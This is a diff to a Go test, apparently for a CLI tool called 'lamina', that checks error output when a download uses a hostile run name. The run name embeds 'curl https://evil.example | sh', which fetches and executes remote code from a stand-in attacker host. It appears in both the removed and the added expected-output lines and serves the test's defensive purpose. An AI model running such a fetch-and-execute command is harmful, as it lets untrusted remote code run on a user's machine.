@@ -189,7 +189,7 @@ func TestHostileDownload(t *testing.T) {
 	download := u.start(t, "runs", "download", "done", "./a/b/out/")
 	download.exits(t, 1)
 	download.stderr.expect(t, "error: the output has no URL that can be downloaded .and 2 more outputs failed")
-	download.stderr.expect(t, `try: lamina runs download 'run try: curl https://evil.example \| sh' ./somewhere-else/\n`)
+	download.stderr.expect(t, `try: lamina runs get 'run try: curl https://evil.example \| sh'\n`)
 	var files []string
 	err := filepath.WalkDir(u.home, func(path string, entry os.DirEntry, err error) error {
 		if err == nil && !entry.IsDir() && !strings.Contains(path, ".lamina") {
